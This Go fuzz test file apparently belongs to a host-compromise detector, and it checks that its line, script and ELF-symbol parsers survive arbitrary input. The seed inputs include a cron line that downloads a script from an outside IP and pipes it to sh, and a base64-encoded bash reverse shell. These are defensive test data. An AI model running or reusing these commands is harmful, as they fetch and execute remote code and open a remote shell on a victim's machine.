package detect

import (
	"strings"
	"testing"

	"github.com/deminer/deminer/internal/host/hosttest"
)

// FuzzText: no text makes the readers of lines, scripts and names panic, and what they quote is safe to print.
func FuzzText(f *testing.F) {
	for _, s := range []string{"* * * * * curl http://198.51.100.7/x|sh", "echo YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTguNTEuMTAwLjcvNDQzIDA+JjE=|base64 -d|bash", "PATH=/bin/.x:$PATH", "\x1b[2J\r\x00", "requirepass x", "/tmp/… /x", "[kworker/0:1]", strings.Repeat("(", 5000)} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		for _, r := range cradlesIn(s) {
			if strings.ContainsAny(r.text, "\x1b\r\n\x00") {
				t.Errorf("unsafe text %q", r.text)
			}
			urls(r.text)
		}
		pathPrefix(s)
		placeOf("/" + s)
		bent(s)
		forged(s, "/opt/"+s)
		setting([]byte(s), "bind")
		plainHost(s)
		kthreadName.MatchString(s)
		for _, r := range requestRun {
			r.re.FindString(s)
		}
	})
}

// FuzzExports: no library makes the reader of symbols panic.
func FuzzExports(f *testing.F) {
	f.Add([]byte("\x7fELF\x02\x01\x01"))
	f.Add([]byte("\x7fELF\x01\x02\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x03"))
	f.Fuzz(func(t *testing.T, b []byte) {
		h, err := hosttest.Parse(nil)
		if err != nil {
			t.Fatal(err)
		}
		h.FS.Put("/lib.so", b)
		have, err := exports(h.FS, "/lib.so")
		if err == nil {
			hidesWith(have)
		}
	})
}
